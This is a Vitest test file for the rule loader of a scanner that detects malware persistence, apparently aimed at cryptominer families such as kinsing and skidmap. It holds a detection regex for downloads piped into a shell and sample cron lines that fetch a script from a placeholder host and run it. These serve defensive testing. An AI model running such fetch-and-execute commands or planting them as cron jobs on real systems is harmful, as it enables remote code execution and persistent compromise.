import { describe, expect, it } from 'vitest';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { loadRuleDir, parseRulePack } from '../../src/rules/loader.js';
import { RuleSet } from '../../src/rules/ruleset.js';
import { RuleError } from '../../src/rules/types.js';

const ok = `
rules:
  - id: test.curl-pipe
    category: persistence/cron
    severity: high
    message: "{path}:{line} pipes a download into a shell"
    remediation: "sed -i '{line}d' {path:q}"
    match:
      content:
        scopes: [cron]
        regex: 'curl[^|]*\\|\\s*sh'
`;

describe('rule packs', () => {
  it('reads JSON packs beside YAML ones, and names the line of a mistake in one', async () => {
    const dir = await mkdtemp(path.join(tmpdir(), 'minescan-rules-'));
    try {
      const rule = { id: 'test.json-rule', category: 'persistence/cron', severity: 'medium', message: '{path}', remediation: 'rm -f {path:q}', match: { content: { scopes: ['cron'], regex: 'evil' } } };
      await writeFile(path.join(dir, 'a.json'), JSON.stringify({ rules: [rule] }, null, 2));
      await writeFile(path.join(dir, 'b.yaml'), ok);
      await writeFile(path.join(dir, 'notes.txt'), 'not a pack');
      const packs = await loadRuleDir(dir);
      expect(packs.flatMap((p) => p.rules.map((r) => r.id))).toEqual(['test.json-rule', 'test.curl-pipe']);
      await writeFile(path.join(dir, 'a.json'), JSON.stringify({ rules: [{ ...rule, severity: 'severe' }] }, null, 2));
      await expect(loadRuleDir(dir)).rejects.toThrow(/a\.json:6: .*severity/);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });

  it('loads every built-in pack, each family with a definition', async () => {
    const rules = await RuleSet.load();
    expect(rules.all().length).toBeGreaterThan(0);
    const families = rules.allFamilies().map((f) => f.id).sort();
    expect(families).toEqual(['aliyun-duns', 'cleanfda', 'kinsing', 'outlaw', 'skidmap']);
    for (const r of rules.all()) if (r.family) expect(rules.family(r.family)).toBeDefined();
  });

  it('turns a rule into a finding with its templates filled and paths quoted', () => {
    const rules = new RuleSet([parseRulePack(ok, 'ok.yaml')]);
    const hits = rules.matchLines('cron', '/etc/cron.d/x y', 'ok\n* * * * * root curl -s http://a/b | sh\n');
    expect(hits).toHaveLength(1);
    expect(hits[0]!.line).toBe(2);
    const f = rules.finding(hits[0]!.rule, { path: '/etc/cron.d/x y', line: 2, evidence: hits[0]!.text });
    expect(f).toMatchObject({ rule: 'test.curl-pipe', severity: 'high', line: 2, category: 'persistence/cron' });
    expect(f.message).toBe('/etc/cron.d/x y:2 pipes a download into a shell');
    expect(f.remediation).toBe(`sed -i '2d' '/etc/cron.d/x y'`);
  });

  it('expands a pack\'s regex fragments, and names the line of an unknown or nested one', () => {
    const withFragments = `fragments:\n  shell: '(?:ba|da)?sh'\n${ok.replace(`'curl[^|]*\\|\\s*sh'`, `'curl[^|]*\\|\\s*(?&shell)\\b'`)}`;
    const rules = new RuleSet([parseRulePack(withFragments, 'f.yaml')]);
    expect(rules.matchLines('cron', '/etc/crontab', 'curl -s http://a/b | bash\ncurl -s http://a/b | zsh').map((h) => h.line)).toEqual([1]);
    expect(() => parseRulePack(withFragments.replace('(?&shell)', '(?&shells)'), 'f.yaml')).toThrow(/f\.yaml:\d+: .*unknown fragment \(\?&shells\); this pack defines shell/);
    expect(() => parseRulePack(`fragments:\n  a: x\n  b: '(?&a)y'\n${ok}`, 'g.yaml')).toThrow(/g\.yaml:3: fragment b may not refer to another fragment/);
  });

  it('expands a pack\'s scope groups, groups within groups included, each scope once', () => {
    const withGroups = `scope-groups:\n  jobs: [cron, at-job]\n  commands: [jobs, script, cron]\n${ok.replace('scopes: [cron]', 'scopes: [commands, ssh-key]')}`;
    const rule = parseRulePack(withGroups, 'g.yaml').rules[0]!;
    expect(rule.match.kind === 'content' && rule.match.scopes).toEqual(['cron', 'at-job', 'script', 'ssh-key']);
    const rules = new RuleSet([parseRulePack(withGroups, 'g.yaml')]);
    expect(rules.matchLines('at-job', '/var/spool/cron/atjobs/a', 'curl -s http://a/b | sh')).toHaveLength(1);
    expect(rules.matchLines('sudoers', '/etc/sudoers', 'curl -s http://a/b | sh')).toHaveLength(0);
  });

  it('reads every command-line rule in every place that runs command lines', async () => {
    const rules = await RuleSet.load();
    const places = ['cron', 'systemd-unit', 'init-script', 'script', 'at-job', 'cloud-init', 'shell-startup', 'udev-rule'];
    const commandRules = rules.all().filter((r) => r.id.startsWith('command.') && r.match.kind === 'content');
    expect(commandRules.length).toBeGreaterThan(20);
    for (const r of commandRules) if (r.match.kind === 'content') expect(r.match.scopes, r.id).toEqual(expect.arrayContaining(places));
  });

  it.each([
    ['an unknown severity', ok.replace('severity: high', 'severity: severe'), 5, /severity/],
    ['a bad regex', ok.replace(`'curl[^|]*\\|\\s*sh'`, `'curl(('`), 11, /regex/],
    ['an unknown scope', ok.replace('[cron]', '[crontab]'), 10, /unknown content scope "crontab"/],
    ['an unknown field', ok.replace('category:', 'categroy:'), 4, /unknown field "categroy"/],
    ['broken YAML', ok.replace('rules:', 'rules: [').replace('  - id', '  -- id'), undefined, /.+/],
    ['an unknown scope in a group', `scope-groups:\n  jobs: [cron, crontab]\n${ok}`, 2, /scope group jobs: unknown content scope "crontab"/],
    ['a group used before it is defined', `scope-groups:\n  all: [jobs]\n  jobs: [cron]\n${ok}`, 2, /scope group all: unknown content scope "jobs"/],
    ['a group named like a scope', `scope-groups:\n  cron: [at-job]\n${ok}`, 2, /scope group "cron" has the name of a content scope/],
    ['an empty group', `scope-groups:\n  jobs: []\n${ok}`, 2, /scope group jobs must be a non-empty list/],
    ['a rule naming a group the pack lacks', `scope-groups:\n  jobs: [cron]\n${ok.replace('scopes: [cron]', 'scopes: [job]')}`, 12, /unknown content scope "job".*groups defined above: jobs/],
  ])('rejects %s naming the file and line', (_what, text, line, msg) => {
    let err: unknown;
    try {
      parseRulePack(text, 'bad.yaml');
    } catch (e) {
      err = e;
    }
    expect(err).toBeInstanceOf(RuleError);
    expect((err as RuleError).file).toBe('bad.yaml');
    if (line !== undefined) expect((err as RuleError).line).toBe(line);
    else expect((err as RuleError).line).toBeGreaterThan(0);
    expect((err as Error).message).toMatch(msg);
  });

  it('rejects two rules with one id, and a family nobody defines', () => {
    const pack = parseRulePack(ok, 'a.yaml');
    expect(() => new RuleSet([pack, parseRulePack(ok, 'b.yaml')])).toThrow(/already defined at a.yaml:3/);
    const orphan = parseRulePack(ok.replace('    category:', '    family: nobody\n    category:'), 'c.yaml');
    expect(() => new RuleSet([orphan])).toThrow(/family "nobody"/);
  });
});
